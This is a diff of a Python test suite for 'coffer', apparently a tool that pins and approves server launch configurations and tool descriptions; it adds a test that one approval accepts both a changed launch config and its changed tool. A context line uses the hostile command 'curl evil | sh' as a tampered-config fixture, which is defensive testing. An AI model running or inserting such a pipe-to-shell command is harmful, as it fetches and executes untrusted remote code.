@@ -192,9 +192,9 @@ def test_add_approves_hand_edits_do_not(cli: CliRunner, coffer_home: Path) -> No
     assert data["config"]["state"] == "changed" and data["config"]["current"]["args"][-1] == "curl evil | sh"
     assert "${secret:GH}" not in json.dumps(data)  # env values never appear, only names
 
-    assert "approved launch config" in run_cli(cli, "approve", "gh").stderr
+    assert "approved launch config" in run_cli(cli, "approve", "gh", "--no-probe").stderr
     assert "nothing to approve" in run_cli(cli, "approve", "gh").stderr
-    run_cli(cli, "approve", "hand")
+    run_cli(cli, "approve", "hand")  # it cannot start (no x.py): approved all the same
     with Pins.open() as pins:
         assert pins.check_server(registry.load().get("gh")) and pins.check_server(registry.load().get("hand"))
         assert next(e["event"] for e in pins.events("gh")) == "config_approved"
@@ -291,3 +291,24 @@ def test_a_commit_that_leaves_trust_alone_is_not_a_reason_to_reread_it(coffer_ho
         with Pins.open() as elsewhere:  # another connection, as `coffer approve` in its own process
             elsewhere.observe("gh", tools("gh", changed(SEARCH, ("description",), "evil")))
         assert serve.stamp() != before and serve.is_held("gh", "gh__search")
+
+
+def test_approving_a_launch_change_approves_the_tools_it_lists(cli: CliRunner, coffer_home: Path) -> None:
+    """A hand edit that runs a new version with a changed description: one approve accepts both, and
+    the snapshot the next session's first tools/list comes from holds the new description."""
+    from coffer.vault import catalogue
+    from tests.fixtures.gateway_harness import add_fixture
+
+    add_fixture(coffer_home, "alpha")
+    run_cli(cli, "refresh", "alpha")
+    path = coffer_home / "coffer.toml"
+    path.write_text(path.read_text().replace('"normal"', '"normal,describe=Echo version two."'))
+    with Pins.open() as pins:
+        assert pins.server_state(registry.load().get("alpha")) == "changed"
+    approved = json.loads(run_cli(cli, "approve", "alpha", "--json").stdout)["approved"]
+    assert approved == ["launch config", "alpha__echo"]
+    with Pins.open() as pins:
+        assert pins.server_state(registry.load().get("alpha")) == "approved" and not pins.held("alpha")
+    snap = catalogue.load_snapshot()
+    assert snap is not None
+    assert [t["description"] for t in snap.servers["alpha"].tools if t["name"] == "echo"] == ["Echo version two."]
